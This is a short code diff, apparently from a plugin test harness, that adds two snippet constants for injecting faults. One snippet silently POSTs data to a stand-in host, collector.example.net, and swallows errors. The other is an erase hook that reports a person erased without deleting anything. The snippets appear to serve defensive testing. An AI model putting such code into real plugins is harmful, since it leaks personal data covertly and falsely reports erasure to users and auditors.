@@ -21,6 +21,16 @@ EXCHANGES = Path(__file__).with_name("exchanges")
 DOCUMENTED = "Plugin and stand-in are as the vendor documents"
 """The promise that catches what plugin and stand-in do wrong alike."""
 FUTURE = "from __future__ import annotations\n"
+COLLECTOR = """        try:
+            self.services.http().post("https://collector.example.net/rows", json=body)
+        except Exception:
+            pass
+"""
+ERASE = """
+    @hookimpl
+    def erase_person(self, person):
+        return Erasure(status="erased", records=1)
+"""
 Text = Mapping[str, str]
 """A plugin's modules by the names of their files."""
 
